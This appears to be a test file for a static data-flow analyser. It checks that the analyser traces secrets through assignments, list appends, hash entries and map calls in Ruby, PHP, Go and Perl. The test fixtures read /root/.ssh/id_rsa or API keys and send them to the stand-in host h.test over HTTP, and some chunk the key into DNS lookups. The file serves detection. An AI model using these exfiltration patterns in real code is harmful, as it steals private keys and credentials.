// What names, lists and rows hold after they were given more: by `+=`, `<<`, an entry, a block that makes one of each.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from '../../test/analysis/code/harness.ts';

beforeAll(prepare);

const flows = (ending: string, text: string) =>
  run({ [`a.${ending}`]: text })
    .flows()
    .filter((one) => one.to !== 'log')
    .map((one) => `${one.from.filter((tag) => /^(?:content:|env:)/.test(tag)).join('+')} ${one.to} ${one.host}`);

const RUBY = "k = File.read('/root/.ssh/id_rsa')\n";
const PHP = "<?php\n$k = file_get_contents('/root/.ssh/id_rsa');\n";
const GO = 'k, _ := os.ReadFile("/root/.ssh/id_rsa")\n';

describe('what is given to a name, a list or a row is in it', () => {
  it.each([
    ['rb', `${RUBY}u = 'https://h.test/?'\nu += k\nURI.open(u)`],
    ['rb', `${RUBY}u = 'https://h.test/?'\nu << k\nURI.open(u)`],
    ['rb', `${RUBY}all = []\nall << k\nNet::HTTP.post(URI('https://h.test'), all.join)`],
    ['rb', `${RUBY}all = []\nall.push(k)\nNet::HTTP.post(URI('https://h.test'), all.join)`],
    ['rb', `${RUBY}w = nil\nw ||= k\nNet::HTTP.post(URI('https://h.test'), w)`],
    ['rb', `${RUBY}row = {}\nrow[:k] = k\nNet::HTTP.post(URI('https://h.test'), row.to_json)`],
    ['php', `${PHP}$u = 'https://h.test/?';\n$u .= $k;\nfile_get_contents($u);`],
    ['php', `${PHP}$l = [];\n$l[] = $k;\nfile_get_contents('https://h.test/?' . implode(',', $l));`],
    ['php', `${PHP}$l = [];\narray_push($l, $k);\nfile_get_contents('https://h.test/?' . implode(',', $l));`],
    ['php', `${PHP}$d = ['a' => 1];\n$d['k'] = $k;\nfile_get_contents('https://h.test/?' . json_encode($d));`],
    ['php', `${PHP}[$a, $b] = ['https://h.test/?', $k];\nfile_get_contents($a . $b);`],
    [
      'php',
      `${PHP}function f($k) { return ['https://h.test/?', $k]; }\nlist($a, $b) = f($k);\nfile_get_contents($a . $b);`,
    ],
    ['go', `${GO}u := "https://h.test/?"\nu += string(k)\nhttp.Get(u)`],
    [
      'go',
      `${GO}m := map[string]string{"a": "b"}\nm["k"] = string(k)\nj, _ := json.Marshal(m)\nhttp.Post("https://h.test", "x", bytes.NewReader(j))`,
    ],
    [
      'pl',
      "open my $f, '<', '/root/.ssh/id_rsa';\nmy $k = <$f>;\nmy %d;\n$d{k} = $k;\nLWP::UserAgent->new->post('https://h.test', \\%d);",
    ],
  ])('%s: %s', (language, text) => {
    expect(flows(language, text)).toContain('content:ssh network h.test');
  });

  it('a function of Ruby that gives back two gives each of them', () => {
    const text = `${RUBY}def f(k)\n  return k, 'https://h.test/x'\nend\n$c, $u = f(k)\nNet::HTTP.post(URI($u), $c)`;
    expect(flows('rb', text)).toContain('content:ssh network h.test');
  });

  it('what is fetched from the environment is what stands under its name, or what is given for it', () => {
    const sent = (what: string) => flows('rb', `Net::HTTP.post(URI('https://h.test'), ${what})`);
    expect(sent("ENV.fetch('API_KEY')")).toEqual(sent("ENV['API_KEY']"));
    expect(sent("ENV.fetch('LANG', 'C')").filter((one) => one.startsWith('env:*'))).toEqual([]);
    const other = flows('rb', `${RUBY}Net::HTTP.post(URI('https://h.test'), ENV.fetch('NOTE') { k })`);
    expect(other.filter((one) => one.includes('content:ssh'))).toHaveLength(1);
  });

  it('a header that logs in is none of what a request carries', () => {
    const text =
      "req = Net::HTTP::Post.new(URI('https://h.test/x'))\nreq['Authorization'] = ENV['API_KEY']\nhttp.request(req)";
    expect(flows('rb', text).filter((one) => one.startsWith('env:'))).toEqual([]);
  });

  it('a list of one is a list', () => {
    expect(flows('rb', `${RUBY}l = ['a']\nl += [k]\nNet::HTTP.post(URI('https://h.test'), l[1])`)).toEqual([
      'content:ssh network h.test',
    ]);
  });
});

describe('what is made of each of a list is in the list that comes back', () => {
  const PARTS = `${RUBY}parts = k.scan(/.{1,50}/)\n`;
  const CUT = `${PHP}$p = str_split(bin2hex($k), 50);\n`;
  it.each([
    ['rb', `${PARTS}parts.map { |x| "#{x}.h.test" }.each { |h| Resolv.getaddress(h) }`],
    [
      'rb',
      `${PARTS}all = ['a']\nall += parts.each_with_index.map { |x, i| "#{i}.#{x}.h.test" }\nall.each { |h| Resolv::DNS.new.getaddresses(h) }`,
    ],
    ['rb', `${PARTS}(['a'] + parts.map { |x| "#{x}.h.test" }).each { |h| Resolv.getaddress(h) }`],
    ['rb', `${PARTS}all = []\nparts.each { |x| all << "#{x}.h.test" }\nall.each { |h| Resolv.getaddress(h) }`],
    ['php', `${CUT}$n = array_map(fn($x) => $x . '.h.test', $p);\nforeach ($n as $h) { gethostbyname($h); }`],
    [
      'php',
      `${CUT}$n = array_map(function ($x) { return $x . '.h.test'; }, $p);\nforeach ($n as $h) { gethostbyname($h); }`,
    ],
  ])('%s: %s', (language, text) => {
    expect(flows(language, text)).toContain('content:ssh dns h.test');
  });
});
